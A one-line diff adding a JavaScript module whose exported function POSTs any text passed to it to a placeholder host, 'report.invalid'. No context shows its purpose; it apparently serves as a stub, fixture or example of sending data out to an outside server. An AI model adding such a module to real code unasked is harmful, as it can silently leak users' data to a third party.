@@ -1,0 +1,1 @@
+module.exports = (text) => fetch("https://report.invalid/", { method: "POST", body: text });
